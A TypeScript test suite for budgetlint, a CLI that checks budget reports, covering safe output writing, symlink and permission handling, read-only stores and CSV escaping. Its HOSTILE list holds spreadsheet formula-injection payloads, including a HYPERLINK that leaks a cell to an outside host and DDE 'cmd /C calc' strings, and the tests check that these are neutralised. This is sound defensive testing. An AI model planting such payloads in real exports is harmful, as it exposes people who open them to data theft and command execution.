/**
 * The edges a nightly run hits (issue 27): outputs never land on inputs or the store, a folder
 * walk survives the entries it cannot read, user-level conditions are one line (not an internal
 * error), CSV is safe to open in a spreadsheet, budgetlint's own reports are not read back, and
 * export/report read a store in a read-only folder and leave no -wal/-shm.
 */
import { spawnSync } from 'node:child_process';
import { chmodSync, copyFileSync, existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import * as XLSX from '@e965/xlsx';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { collectFiles } from '../pipeline/files.js';
import { formatCsv } from '../pipeline/format/csv.js';
import { spreadsheetSafe } from '../pipeline/format/csv-cell.js';
import { terminalColumns, writeStreamAtomic } from '../pipeline/safe-output.js';

const ROOT = resolve('.');
const CLI = join(ROOT, 'pipeline', 'cli.ts');
const TSX = join(ROOT, 'node_modules', 'tsx', 'dist', 'loader.mjs');
const JINKOUHE = join(ROOT, 'fixtures', 'reports', 'jinkouhe-ybj-2025.md');
const MEIXIAN = join(ROOT, 'fixtures', 'reports', 'meixian-ybj-2025.md');

/** The CLI as a user runs it, in `cwd`; `as` runs it through a wrapper (setpriv, script). */
function budgetlint(args: string[], options: { cwd?: string; wrap?: string[] } = {}) {
  const command = [process.execPath, '--import', TSX, CLI, ...args];
  const [file, ...rest] = options.wrap ? [...options.wrap, ...command] : command;
  const run = spawnSync(file!, rest, { encoding: 'utf8', cwd: options.cwd ?? ROOT, env: { ...process.env, NO_COLOR: '1' } });
  return { code: run.status, stdout: run.stdout, stderr: run.stderr };
}

let dir: string;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'budgetlint-bad-input-'));
  chmodSync(dir, 0o755);
});
afterAll(() => {
  // A mode-000 folder left by a failed test must not stop the clean-up.
  for (const entry of readdirSync(dir, { recursive: true, withFileTypes: true })) {
    if (entry.isDirectory()) chmodSync(join(entry.parentPath, entry.name), 0o755);
  }
  rmSync(dir, { recursive: true, force: true });
});

let folders = 0;
function folder(): string {
  const made = join(dir, `f${++folders}`);
  mkdirSync(made);
  chmodSync(made, 0o755);
  return made;
}

/** A store of one run over jinkouhe's report, in its own folder. */
function storeOf(where: string): string {
  const docs = join(where, 'docs');
  mkdirSync(docs);
  copyFileSync(JINKOUHE, join(docs, 'jinkouhe.md'));
  const db = join(where, 'results.sqlite');
  expect(budgetlint(['run', '--db', db, docs]).code).toBe(1);
  return db;
}

/** Root ignores permissions: the mode-000 and read-only cases run as `nobody` through setpriv. */
const root = process.getuid?.() === 0;
const setpriv = spawnSync('setpriv', ['--version']).status === 0;
const asUnprivileged = root ? (setpriv ? ['setpriv', '--reuid=65534', '--regid=65534', '--clear-groups'] : undefined) : [];
const permissionNote = asUnprivileged ? '' : '（以 root 运行且没有 setpriv：权限不约束 root，跳过）';

describe('outputs never overwrite inputs', () => {
  it('check -o onto the document it checks is refused before anything is read; the document stays whole', () => {
    const where = folder();
    const doc = join(where, 'report.md');
    copyFileSync(JINKOUHE, doc);
    const before = readFileSync(doc);
    expect(budgetlint(['check', '-o', 'report.md', 'report.md'], { cwd: where })).toEqual({ code: 2, stdout: '', stderr: 'budgetlint check: -o report.md 就是输入文件 report.md，写入会覆盖它；请换一个输出文件名\n' });
    // The same file by another name (a hard link), and found by the walk of its folder.
    expect(budgetlint(['check', '-o', join(where, 'report.md'), where]).stderr).toBe(`budgetlint check: -o ${join(where, 'report.md')} 就是要核对的文件 ${join(where, 'report.md')}，写入会覆盖它；请换一个输出文件名\n`);
    expect(readFileSync(doc)).toEqual(before);
  });

  it('export -o onto the store (or its -wal) is refused and the store keeps every byte', () => {
    const where = folder();
    const db = storeOf(where);
    const before = readFileSync(db);
    expect(budgetlint(['export', '--db', db, '-o', db])).toEqual({ code: 2, stdout: '', stderr: `budgetlint export: -o ${db} 就是结果库 ${db}，写入会覆盖它；请换一个输出文件名\n` });
    expect(budgetlint(['export', '--db', 'results.sqlite', '-o', './results.sqlite'], { cwd: where }).stderr).toBe('budgetlint export: -o ./results.sqlite 就是结果库 results.sqlite，写入会覆盖它；请换一个输出文件名\n');
    expect(readFileSync(db)).toEqual(before);
    // The store is still a store: export reads it.
    const out = join(where, 'facts.csv');
    expect(budgetlint(['export', '--db', db, '-o', out]).code).toBe(0);
    expect(readFileSync(out, 'utf8').split('\r\n')[0]).toMatch(/^\uFEFFdocument_id,path,/);
  });

  it('export -o and report -o: a missing folder, a folder, a file where a folder is wanted — one line each, exit 2', () => {
    const where = folder();
    const db = storeOf(where);
    expect(budgetlint(['export', '--db', db, '-o', join(where, 'no', 'x.csv')])).toEqual({ code: 2, stdout: '', stderr: `budgetlint export: -o ${join(where, 'no', 'x.csv')}：目录 ${join(where, 'no')} 不存在\n` });
    expect(budgetlint(['export', '--db', db, '-o', where])).toEqual({ code: 2, stdout: '', stderr: `budgetlint export: -o ${where}：这是一个目录\n` });
    const file = join(where, 'report.txt');
    writeFileSync(file, 'not a folder');
    expect(budgetlint(['report', '--db', db, '-o', file])).toEqual({ code: 2, stdout: '', stderr: `budgetlint report: -o ${file}：已存在且不是目录，请给出一个目录\n` });
    expect(budgetlint(['report', '--db', db, '-o', join(where, 'no', 'report')])).toEqual({ code: 2, stdout: '', stderr: `budgetlint report: -o ${join(where, 'no', 'report')}：目录 ${join(where, 'no')} 不存在\n` });
    expect(readFileSync(file, 'utf8')).toBe('not a folder');
  });

  it('-o /dev/stdout (a device or a pipe) is written in place, never replaced', () => {
    const run = budgetlint(['check', '--format', 'csv', '-o', '/dev/stdout', JINKOUHE]);
    expect(run.code).toBe(1);
    expect(run.stdout.split('\r\n')[0]).toBe('\uFEFFpath,location,page,line,column,severity,rule_id,message,actual,expected,fingerprint,decision,decision_reason,decided_by,decided_at');
    const link = lstatSync('/dev/stdout');
    expect(link.isSymbolicLink() || link.isCharacterDevice()).toBe(true);
  });

  it('-o through a symbolic link writes the file it points at; the link stays a link', () => {
    const where = folder();
    writeFileSync(join(where, 'real.csv'), 'old\n');
    symlinkSync(join(where, 'real.csv'), join(where, 'link.csv'));
    expect(budgetlint(['check', '--format', 'csv', '-o', join(where, 'link.csv'), JINKOUHE]).code).toBe(1);
    expect(lstatSync(join(where, 'link.csv')).isSymbolicLink()).toBe(true);
    expect(readFileSync(join(where, 'real.csv'), 'utf8')).toMatch(/^\uFEFFpath,location,/);
    expect(readdirSync(where).sort()).toEqual(['link.csv', 'real.csv']);
  });

  it('a write that fails half-way leaves the old file whole and no temporary file behind', async () => {
    const where = folder();
    const target = join(where, 'out.csv');
    writeFileSync(target, 'old export\n');
    await expect(writeStreamAtomic(target, async (stream) => {
      stream.write('half of a new export');
      throw Object.assign(new Error('write failed'), { code: 'ENOSPC' });
    })).rejects.toThrow(`无法写入 ${target}：磁盘空间不足，请腾出空间或改写到其他磁盘`);
    expect(readFileSync(target, 'utf8')).toBe('old export\n');
    expect(readdirSync(where)).toEqual(['out.csv']);
  });

  it('a full disk under export to stdout is one line, not an internal error', () => {
    if (!existsSync('/dev/full')) return void console.warn('跳过：没有 /dev/full');
    const where = folder();
    const db = storeOf(where);
    const run = spawnSync('sh', ['-c', `"${process.execPath}" --import "${TSX}" "${CLI}" export --db "${db}" > /dev/full`], { encoding: 'utf8' });
    expect({ code: run.status, stderr: run.stderr }).toEqual({ code: 2, stderr: 'budgetlint: 磁盘空间不足，请腾出空间或改写到其他磁盘\n' });
  });
});

describe('folder walks survive their entries', () => {
  it('a dangling link and a link loop are one entry each with the reason; the other files are checked', async () => {
    const where = folder();
    copyFileSync(JINKOUHE, join(where, 'a.md'));
    copyFileSync(MEIXIAN, join(where, 'b.md'));
    symlinkSync(join(where, 'gone.md'), join(where, 'dangling.md'));
    symlinkSync(join(where, 'loop-2.md'), join(where, 'loop-1.md'));
    symlinkSync(join(where, 'loop-1.md'), join(where, 'loop-2.md'));
    // A link with another extension (not a report) is not mentioned.
    symlinkSync(join(where, 'nothing.csv'), join(where, 'other.csv'));
    const { files, problems } = await collectFiles([where]);
    expect(files).toEqual([join(where, 'a.md'), join(where, 'b.md')]);
    expect(problems).toEqual([
      { path: join(where, 'dangling.md'), message: '符号链接指向的文件不存在', code: 'not-found' },
      { path: join(where, 'loop-1.md'), message: '符号链接循环', code: 'link-loop' },
      { path: join(where, 'loop-2.md'), message: '符号链接循环', code: 'link-loop' },
    ]);
    const run = budgetlint(['check', '--format', 'json', where]);
    expect(run.code).toBe(1);
    const report = JSON.parse(run.stdout) as { files: { path: string; errors?: { code?: string; message: string }[]; findings: unknown[] }[] };
    expect(report.files.map((file) => [file.path, file.errors?.[0]?.message ?? `${file.findings.length} 条发现`])).toEqual([
      [join(where, 'dangling.md'), '符号链接指向的文件不存在'],
      [join(where, 'loop-1.md'), '符号链接循环'],
      [join(where, 'loop-2.md'), '符号链接循环'],
      [join(where, 'a.md'), '5 条发现'],
      [join(where, 'b.md'), expect.stringMatching(/条发现$/)],
    ]);
  });

  it('a path named on the command line that does not exist is still exit 2', () => {
    expect(budgetlint(['check', JINKOUHE, join(dir, 'typo')])).toEqual({ code: 2, stdout: '', stderr: `budgetlint check: 路径不存在：${join(dir, 'typo')}\n` });
  });

  it(`a mode-000 subfolder and an unreadable file are one entry each; the rest of the folder is checked${permissionNote}`, (context) => {
    if (!asUnprivileged) return context.skip();
    const where = folder();
    mkdirSync(join(where, 'a-dept'));
    copyFileSync(JINKOUHE, join(where, 'a-dept', 'jinkouhe.md'));
    mkdirSync(join(where, 'lost+found'));
    copyFileSync(MEIXIAN, join(where, 'lost+found', 'hidden.md'));
    copyFileSync(MEIXIAN, join(where, 'secret.md'));
    copyFileSync(MEIXIAN, join(where, 'z.md'));
    chmodSync(join(where, 'a-dept'), 0o755);
    chmodSync(join(where, 'lost+found'), 0o000);
    chmodSync(join(where, 'secret.md'), 0o000);
    try {
      const run = budgetlint(['check', '--format', 'json', where], { wrap: asUnprivileged });
      expect(run.stderr).toBe('');
      const report = JSON.parse(run.stdout) as { files: { path: string; errors?: { code?: string; message: string }[]; findings: unknown[] }[] };
      expect(report.files.map((file) => [file.path, file.errors?.[0]?.message ?? 'checked'])).toEqual([
        [join(where, 'lost+found'), '无法读取目录：权限不足（EACCES）'],
        [join(where, 'secret.md'), '无法读取文件：权限不足（EACCES）'],
        [join(where, 'a-dept', 'jinkouhe.md'), 'checked'],
        [join(where, 'z.md'), 'checked'],
      ]);
      expect(run.code).toBe(1);
    } finally {
      chmodSync(join(where, 'lost+found'), 0o755);
      chmodSync(join(where, 'secret.md'), 0o644);
    }
  });
});

describe('no internal error for a user-level condition', () => {
  it('a terminal of 0 columns: check draws at the minimum width and prints its report', (context) => {
    if (spawnSync('script', ['--version']).status !== 0) return context.skip();
    // `script` gives the CLI a pseudo-terminal; stty makes it report 0 columns, as some CI terminals do.
    const inner = `stty cols 0 rows 0; "${process.execPath}" --import "${TSX}" "${CLI}" check "${JINKOUHE}" "${MEIXIAN}"; echo "exit=$?"`;
    const run = spawnSync('script', ['-qec', inner, '/dev/null'], { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } });
    expect(run.stdout).not.toContain('RangeError');
    expect(run.stdout).toContain('2 个文件：');
    expect(run.stdout).toMatch(/exit=1\s*$/);
    expect(terminalColumns({ columns: 0 })).toBe(80);
    expect(terminalColumns({ columns: 12 })).toBe(40);
    expect(terminalColumns({ columns: 132 })).toBe(132);
  });

  it('--time-limit past a day is refused with its range, before any file is read', () => {
    expect(budgetlint(['check', '--time-limit', '2147482', JINKOUHE])).toEqual({ code: 2, stdout: '', stderr: 'budgetlint check: --time-limit 2147482 超出范围：单个文件的处理时限最长 86400 秒（24 小时）\n' });
    expect(budgetlint(['run', '--time-limit', '1e9', '--db', join(dir, 'never.sqlite'), JINKOUHE]).stderr).toBe('budgetlint run: --time-limit 1e9 超出范围：单个文件的处理时限最长 86400 秒（24 小时）\n');
    expect(existsSync(join(dir, 'never.sqlite'))).toBe(false);
  });
});

/** Every cell of a CSV as SheetJS (the library budgetlint reads workbooks with) reads it. */
function cellsOf(csv: string): XLSX.CellObject[] {
  const sheet = XLSX.read(csv.replace(/^\uFEFF/, ''), { type: 'string', raw: false }).Sheets.Sheet1!;
  return Object.entries(sheet).filter(([key]) => !key.startsWith('!')).map(([, cell]) => cell as XLSX.CellObject);
}

const HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"点击")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

describe('CSV is safe to open in a spreadsheet', () => {
  it('prefixes a cell starting with = + - @ tab or CR with \', and leaves a plain negative number a number', () => {
    expect(HOSTILE.map(spreadsheetSafe)).toEqual(HOSTILE.map((cell) => `'${cell}`));
    expect(['-12.5', '-3588400', '12.5', '预算 -1', '-', '-1e3', '--1'].map(spreadsheetSafe)).toEqual(['-12.5', '-3588400', '12.5', '预算 -1', "'-", "'-1e3", "'--1"]);
  });

  it('check --format csv: file names and messages that look like formulas are text in the spreadsheet', () => {
    const csv = formatCsv({
      tool: { name: 'budgetlint', version: '0' },
      files: HOSTILE.map((path, index) => ({ path, meta: {}, facts: [], notices: [], errors: [{ message: HOSTILE[(index + 1) % HOSTILE.length]!, code: 'corrupt' }], findings: [] })),
    });
    const cells = cellsOf(csv);
    expect(cells.filter((cell) => cell.f !== undefined)).toEqual([]);
    const texts = cells.map((cell) => String(cell.v));
    for (const hostile of HOSTILE) expect(texts.filter((text) => text === `'${hostile}`)).toHaveLength(2);
    expect(texts.filter((text) => /^[=+\-@\t\r]/.test(text))).toEqual([]);
  });

  it('export CSV: a file named like a formula is text, the amounts stay numbers', () => {
    const where = folder();
    const docs = join(where, 'docs');
    mkdirSync(docs);
    copyFileSync(JINKOUHE, join(docs, '=HYPERLINK("http:x").md'));
    copyFileSync(MEIXIAN, join(docs, '@SUM(1).md'));
    // Relative paths as the user typed them: the path column starts with the file name.
    expect(budgetlint(['run', '--db', 'results.sqlite', 'docs/=HYPERLINK("http:x").md', 'docs/@SUM(1).md'], { cwd: where }).code).toBe(1);
    const run = budgetlint(['export', '--db', 'results.sqlite', '--what', 'documents'], { cwd: where });
    expect(run.code).toBe(0);
    const cells = cellsOf(run.stdout);
    expect(cells.filter((cell) => cell.f !== undefined)).toEqual([]);
    expect(cells.map((cell) => cell.v)).toEqual(expect.arrayContaining(['docs/=HYPERLINK("http:x").md', 'docs/@SUM(1).md', 3588400]));
  });
});

describe("budgetlint's own outputs are never inputs", () => {
  it('run → report → run: the report folder is skipped and said once; check skips an HTML report it wrote', () => {
    const where = folder();
    copyFileSync(JINKOUHE, join(where, 'jinkouhe.md'));
    const db = join(dir, `self-${folders}.sqlite`);
    expect(budgetlint(['run', '--db', db, where]).code).toBe(1);
    expect(budgetlint(['report', '--db', db, '-o', join(where, 'report')]).code).toBe(0);
    expect(existsSync(join(where, 'report', '.budgetlint-report'))).toBe(true);
    expect(readFileSync(join(where, 'report', 'index.html'), 'utf8')).toMatch(/^<!doctype html>\n<html lang="zh-CN">\n<head>\n<meta charset="utf-8">\n<meta name="generator" content="budgetlint [^"]+">/);
    const again = budgetlint(['run', '--db', db, '--format', 'json', where]);
    expect(again.stderr).toContain(`budgetlint run: 已跳过 1 份 budgetlint 自己生成的审阅报告（${join(where, 'report')}），不作为输入\n`);
    expect(JSON.parse(again.stdout)).toMatchObject({ counts: { total: 1 } });

    expect(budgetlint(['check', '--format', 'html', '-o', join(where, 'check.html'), join(where, 'jinkouhe.md')]).code).toBe(1);
    const check = budgetlint(['check', '--format', 'json', where]);
    expect(check.stderr).toBe(`budgetlint check: 已跳过 2 份 budgetlint 自己生成的审阅报告（${join(where, 'check.html')}、${join(where, 'report')}），不作为输入\n`);
    expect((JSON.parse(check.stdout) as { files: { path: string }[] }).files.map((file) => file.path)).toEqual([join(where, 'jinkouhe.md')]);
  });
});

describe('read-only stores', () => {
  it('export and report leave no -wal or -shm beside a store in a writable folder', () => {
    const where = folder();
    const db = storeOf(where);
    expect(readdirSync(where).sort()).toEqual(['docs', 'results.sqlite']);
    expect(budgetlint(['export', '--db', db, '-o', join(where, 'facts.csv')]).code).toBe(0);
    expect(budgetlint(['report', '--db', db, '-o', join(where, 'report')]).code).toBe(0);
    expect(readdirSync(where).sort()).toEqual(['docs', 'facts.csv', 'report', 'results.sqlite']);
  });

  it(`export and report read a store in a folder they may not write${permissionNote}`, (context) => {
    if (!asUnprivileged) return context.skip();
    const where = folder();
    const db = storeOf(where);
    const out = folder();
    chmodSync(out, 0o777);
    chmodSync(where, 0o555);
    chmodSync(db, 0o444);
    try {
      const before = statSync(db).mtimeMs;
      const exported = budgetlint(['export', '--db', db, '--what', 'documents', '--format', 'jsonl'], { wrap: asUnprivileged });
      expect(exported.stderr).toBe('');
      expect(exported.code).toBe(0);
      expect(JSON.parse(exported.stdout.split('\n')[0]!)).toMatchObject({ path: join(where, 'docs', 'jinkouhe.md'), status: 'ok', expense: '3588400' });
      const report = budgetlint(['report', '--db', db, '-o', join(out, 'report')], { wrap: asUnprivileged });
      expect(report).toMatchObject({ code: 0, stderr: '已写入 ' + join(out, 'report') + '/index.html：1 个文件，5 条发现，0 张页面图像\n' });
      expect(readdirSync(where).sort()).toEqual(['docs', 'results.sqlite']);
      expect(statSync(db).mtimeMs).toBe(before);
    } finally {
      chmodSync(where, 0o755);
      chmodSync(db, 0o644);
    }
  });
});
